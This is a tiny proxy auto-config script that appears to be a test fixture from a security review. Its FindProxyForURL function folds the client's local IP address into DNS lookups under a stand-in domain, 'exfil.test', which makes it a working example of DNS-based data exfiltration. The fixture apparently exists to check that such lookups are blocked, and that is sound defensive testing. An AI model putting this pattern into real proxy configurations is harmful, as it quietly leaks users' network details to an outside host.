// Names chosen by the PAC code (review D4, PR04/PAC10): myIpAddress() in a name under
// a domain the plan does not list. They must not reach the site's resolvers.
function FindProxyForURL(url, host) {
  for (var i = 0; i < 5; i++) dnsResolve(myIpAddress().split(".").join("-") + ".n" + i + ".exfil.test");
  return "DIRECT";
}
